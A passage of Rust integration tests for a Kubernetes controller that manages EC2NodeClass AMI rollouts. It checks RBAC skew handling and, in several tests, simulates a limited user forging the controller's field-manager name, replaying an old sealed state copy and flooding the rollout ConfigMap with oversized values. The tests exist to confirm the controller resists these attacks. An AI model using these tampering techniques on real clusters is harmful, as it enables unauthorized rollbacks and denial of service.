    let flags = Flags::new()?;
    let (world, second, joiner) = trial_begun(&flags).await?;
    resyncs(&second, 2.0).await?;
    let admin = world.cp.admin().await?;
    let api = ec2nodeclasses(&admin);
    let begun = api.get(CLASS).await?;
    let began = apply_time(&begun).context("no apply of autonode-server's")?;

    // Their apply: the class as it is (nothing of autonode's removed),
    // one annotation more, under autonode's manager name, a while later.
    tokio::time::sleep(Duration::from_millis(2100)).await;
    let verbs = ["get", "list", "watch", "patch"];
    standin::grant_on_nodeclasses(&admin, "mallory", &verbs).await?;
    let mallory = ec2nodeclasses(&world.cp.client_as("mallory", None).await?);
    let mut annotations = begun.metadata.annotations.clone().unwrap_or_default();
    annotations.insert("mallory".into(), "was-here".into());
    let body = json!({
        "apiVersion": "karpenter.k8s.aws/v1", "kind": "EC2NodeClass",
        "metadata": {"name": CLASS, "annotations": annotations},
        "spec": begun.data["spec"],
    });
    let as_autonode = PatchParams::apply("autonode-server").force();
    let written = mallory
        .patch(CLASS, &as_autonode, &Patch::Apply(&body))
        .await
        .context("mallory's apply")?;
    let moved = apply_time(&written).context("no apply of autonode-server's")?;
    ensure!(
        moved > began,
        "the apply did not move the time: {moved} vs {began}"
    );

    // A failure under the trial makes the guard write its state.
    let (claim, instance) = launch(&world, NEW_AMI).await?;
    fail_bootstrap(&world, &joiner, &instance).await?;
    let recorded = class_when(&world, "recording the failure", |c| {
        state(c)["trial"]["claims"][&claim]["failed"].is_string()
    })
    .await?;
    let since = &state(&recorded)["trial"]["since"];
    ensure!(
        since.as_i64() == Some(began),
        "the trial's start moved to {since} (their apply at {moved}); autonode began it at {began}"
    );
    Ok(())
}

/// The guest RBAC files as a release before the store shipped them: the
/// store's Role and its binding left out.
fn rbac_before_the_store(flags: &[String]) -> Result<String> {
    let wanted = GuestRbac::for_flags(flags).without_admission().files();
    let mut kept = Vec::new();
    for (name, text) in GUEST_RBAC_FILES {
        if !wanted.contains(&name) {
            continue;
        }
        let docs = manifest::documents(text)?;
        kept.extend(
            docs.into_iter()
                .filter(|d| d["metadata"]["name"] != "autonode-server-rollout-store"),
        );
    }
    Ok(manifest::join(&kept))
}

/// Skew: a server whose guest RBAC predates the store (403 on the
/// ConfigMap) keeps the guard's state on the class, as before, says once
/// in its log and by an Event on the class which Role is missing, and does
/// not write in a loop.
#[tokio::test]
async fn under_rbac_before_the_store_the_state_stays_on_the_class_and_it_says_so() -> Result<()> {
    let flags = Flags::new()?;
    let args = flags.with_ami(OLD_AMI);
    let (world, old_rbac) = without_the_store_role(&args).await?;
    let admin = world.cp.admin().await?;
    let name = "autonode-server-rollout-store";
    let told = class_events(&world, "RolloutStoreUnavailable").await?;
    ensure!(told[0].contains(name), "{told:?}");
    resyncs(&old_rbac, 2.0).await?;
    let writes = "autonode_nodeclass_writes_total";
    let before = metric(&old_rbac, writes).await?;
    resyncs(&old_rbac, 4.0).await?;
    ensure!(
        metric(&old_rbac, writes).await? == before,
        "writing in a loop"
    );
    let api: Api<ConfigMap> = Api::namespaced(admin, "autonode-system");
    ensure!(api.get_opt(STORE).await?.is_none(), "a store was written");
    let log = old_rbac.log();
    let warned = log
        .matches("may not use ConfigMap autonode-rollout")
        .count();
    ensure!(warned == 1, "warned {warned} times:\n{log}");

    // Its state still guards: a Ready node promotes, as before the store.
    let (claim, _) = launch(&world, OLD_AMI).await?;
    mark_ready(&world, &claim).await?;
    class_when(&world, "promoted", |c| state(c)["trial"].is_null()).await?;
    Ok(())
}

/// Skew (docs/upgrading.md, the order to upgrade in): a server started
/// before the store's Role was applied picks the store up within five
/// minutes of the Role being applied, without a restart (it asks again
/// every five minutes after a refusal; the period is no setting, so the
/// test waits it out), carrying the class's state into it.
#[tokio::test]
async fn the_store_is_picked_up_within_five_minutes_of_its_role_being_applied() -> Result<()> {
    let flags = Flags::new()?;
    let args = flags.with_ami(OLD_AMI);
    let (world, _server) = without_the_store_role(&args).await?;
    class_events(&world, "RolloutStoreUnavailable").await?;
    let admin = world.cp.admin().await?;
    GuestRbac::for_flags(&args)
        .without_admission()
        .apply(&admin, world.cp.version())
        .await?;
    let applied = std::time::Instant::now();
    // Five minutes, and a few resyncs of a second for the reconcile.
    let entry = poll::until(
        "the store to hold the class's state",
        Duration::from_secs(300 + 10),
        Duration::from_secs(1),
        || async {
            let entry = stored(&world).await?;
            Ok((!entry.is_null()).then_some(entry))
        },
    )
    .await?;
    let class = ec2nodeclasses(&admin).get(CLASS).await?;
    ensure!(
        entry["applied"] == state(&class)["applied"],
        "the store does not hold the class's state: {entry} vs {}",
        state(&class)
    );
    eprintln!(
        "the store was picked up {:.0} s after its Role was applied",
        applied.elapsed().as_secs_f64()
    );
    Ok(())
}

/// A world whose server (`args`) runs under the guest RBAC of a release
/// before the store, and a class it keeps, its state on the class.
async fn without_the_store_role(args: &[String]) -> Result<(World, TestServer)> {
    let world = World::start_with(args).await?;
    world.server.kill();
    let admin = world.cp.admin().await?;
    let name = "autonode-server-rollout-store";
    Api::<RoleBinding>::namespaced(admin.clone(), "autonode-system")
        .delete(name, &Default::default())
        .await?;
    Api::<Role>::namespaced(admin.clone(), "autonode-system")
        .delete(name, &Default::default())
        .await?;
    let manifest = rbac_before_the_store(args)?;
    let setup = Setup {
        extra_args: args,
        rbac_manifest: Some(&manifest),
        ..Setup::default()
    };
    let cloud = cloud_settings(&world.cloud, &world.ec2);
    let old_rbac = TestServer::launch(&world.cp, &cloud, &setup).await?;

    standin::create_custom_nodeclass(&admin, CLASS, "mine").await?;
    class_when(&world, "kept by autonode, its state on it", |c| {
        ami(c) == OLD_AMI && state(c)["trial"].is_object()
    })
    .await?;
    Ok((world, old_rbac))
}

/// The store's entries: each key's bytes (name and text), by class name.
async fn store_entries(world: &World) -> Result<Vec<(String, usize, Value)>> {
    let api: Api<ConfigMap> = Api::namespaced(world.cp.admin().await?, "autonode-system");
    let data = api
        .get_opt(STORE)
        .await?
        .and_then(|m| m.data)
        .unwrap_or_default();
    Ok(data
        .into_iter()
        .map(|(name, text)| {
            let entry = serde_json::from_str(&text).unwrap_or(Value::Null);
            let bytes = name.len() + text.len();
            (name, bytes, entry)
        })
        .collect())
}

/// The cap a server before per-class budgets filled the store to.
const STORE_CAP: usize = 900 * 1024;
const RETRY: &str = "autonode.dev/retry-rollout";

/// Issue 48, item 1: a class editor fills the rollout store with long
/// retry values (her right, by design, and not refused without the
/// admission policy) to within bytes of its cap, and the operator's next
/// class is never kept: its creator's AMI terms stay. The server before
/// recorded each value whole in the one ConfigMap; now each is recorded
/// as its digest, and each class has a budget and a slot of its own.
#[tokio::test]
async fn an_editors_long_retry_values_do_not_keep_other_classes_from_the_store() -> Result<()> {
    let flags = Flags::new()?;
    let world = World::start_with(&flags.with_ami(OLD_AMI)).await?;
    let admin = world.cp.admin().await?;
    let api = ec2nodeclasses(&admin);
    let kept = |name: &'static str| {
        let api = api.clone();
        async move {
            eventually(&format!("EC2NodeClass {name} kept"), || async {
                let class = api.get(name).await?;
                Ok((ami(&class) == OLD_AMI).then_some(()))
            })
            .await
        }
    };
    // Values of at most 110,000 bytes: the server before wrote each into
    // the class's sealed annotation too, and all of a class's annotations
    // must stay under 256 KiB.
    const EVE: [&str; 9] = [
        "eve-0", "eve-1", "eve-2", "eve-3", "eve-4", "eve-5", "eve-6", "eve-7", "eve-8",
    ];
    for (i, name) in EVE.iter().enumerate() {
        // The last one tuned to leave a few hundred bytes of the cap.
        let length = if i + 1 < EVE.len() {
            110_000
        } else {
            let entries = store_entries(&world).await?;
            let used: usize = entries.iter().map(|(_, bytes, _)| bytes).sum();
            let (_, first, _) = entries
                .iter()
                .find(|(n, _, _)| n == "eve-0")
                .context("eve-0")?;
            // Her entry without the value: what the tuned one adds to it
            // (against this server, the value is not in the entry at all).
            let overhead = if *first > 110_000 {
                first - 110_000
            } else {
                *first
            };
            (STORE_CAP - used)
                .saturating_sub(overhead + name.len() + 300)
                .clamp(64, 110_000)
        };
        let annotations = json!({ RETRY: "r".repeat(length) });
        let spec = standin::custom_spec(json!({}));
        standin::create_nodeclass(&admin, name, annotations, spec).await?;
        let name: &'static str = name;
        kept(name).await?;
    }
    let entries = store_entries(&world).await?;
    let used: usize = entries.iter().map(|(_, bytes, _)| bytes).sum();
    eprintln!(
        "store after her classes: {} entries, {used} bytes",
        entries.len()
    );
    // The operator's class, made now, is kept: the AMI she gave it at
    // creation replaced by the server's.
    standin::create_custom_nodeclass(&admin, CLASS, "mine").await?;
    let class = class_when(&world, "kept by autonode", |c| {
        ami(c) == OLD_AMI && state(c)["trial"].is_object()
    })
    .await?;
    ensure!(class.data["spec"]["userData"] != "mine");
    // The server writes the class first and records it in the store after.
    let entries = eventually("the operator's class in the store", || async {
        let entries = store_entries(&world).await?;
        Ok(entries
            .iter()
            .any(|(name, _, _)| name == CLASS)
            .then_some(entries))
    })
    .await?;
    for (name, bytes, entry) in &entries {
        ensure!(
            *bytes <= 16 * 1024,
            "{name}'s entry takes {bytes} bytes: {entry}"
        );
        if let Some(retried) = entry["state"]["retried"].as_str() {
            ensure!(
                retried.starts_with("sha256:"),
                "{name} records {retried:.80}"
            );
        }
    }
    Ok(())
}

/// The class's rollout annotation as it is (the sealed copy's text).
fn copy_text(class: &DynamicObject) -> Result<String> {
    class
        .metadata
        .annotations
        .as_ref()
        .and_then(|a| a.get(STATE))
        .cloned()
        .context("the class carries no copy of its state")
}

/// Attack (docs/design.md, the rollout rows: a replay): a class editor
/// saw the state autonode sealed on the class while `OLD_AMI` was its
/// last good values; `NEW_AMI` has since been tried and promoted. She puts
/// that copy back, under autonode's own field manager name (so
/// managedFields name autonode-server alone, and the seal, made for this
/// class, opens), with a hold to keep its values: were it taken over, the
/// class would be held at the replaced `OLD_AMI`. The store's entry has
/// seen that copy on the class, so it is no newer state of a downgrade's
/// leader: it is not taken, the class keeps `NEW_AMI` resync after resync,
/// the store is unchanged and the class's copy is autonode's again.
#[tokio::test]
async fn a_class_editor_replaying_an_old_sealed_copy_brings_back_no_replaced_ami() -> Result<()> {
    let flags = Flags::new()?;
    let (world, proven) = proven_world(&flags).await?;
    let old_copy = copy_text(&proven)?;
    let (second, _) = new_ami_server(&world, &flags).await?;
    class_when(&world, "on the new AMI", |c| ami(c) == NEW_AMI).await?;
    let (claim, _) = launch(&world, NEW_AMI).await?;
    mark_ready(&world, &claim).await?;
    class_when(&world, "the new AMI promoted", |c| {
        state(c)["good"]["amiSelectorTerms"][0]["id"] == NEW_AMI && state(c)["trial"].is_null()
    })
    .await?;
    let before = stored(&world).await?;
    ensure!(
        before["good"]["amiSelectorTerms"][0]["id"] == NEW_AMI,
        "{before}"
    );

    let admin = world.cp.admin().await?;
    let verbs = ["get", "list", "watch", "patch"];
    standin::grant_on_nodeclasses(&admin, "mallory", &verbs).await?;
    let mallory = ec2nodeclasses(&world.cp.client_as("mallory", None).await?);
    let replay =
        json!({"metadata": {"annotations": {STATE: old_copy, "autonode.dev/hold": "true"}}});
    let as_autonode = PatchParams {
        field_manager: Some("autonode-server".into()),
        ..PatchParams::default()
    };
    let written = mallory
        .patch(CLASS, &as_autonode, &Patch::Merge(&replay))
        .await
        .context("mallory's replay")?;
    ensure!(copy_text(&written)? == old_copy, "the replay did not land");

    let api = ec2nodeclasses(&admin);
    let checks = "autonode_nodeclass_checks_total";
    let start = metric(&second, checks).await?;
    while metric(&second, checks).await? < start + 5.0 {
        let class = api.get(CLASS).await?;
        ensure!(
            ami(&class) == NEW_AMI,
            "the replayed copy was taken: the class selects {}, state {}\n{}",
            ami(&class),
            state(&class),
            second.log()
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    ensure!(
        stored(&world).await? == before,
        "the store changed: {}",
        stored(&world).await?
    );
    class_when(&world, "with autonode's copy back", |c| {
        state(c)["good"]["amiSelectorTerms"][0]["id"] == NEW_AMI
    })
    .await?;
    ensure!(!second.log().contains("taking it over"), "{}", second.log());
    Ok(())
}
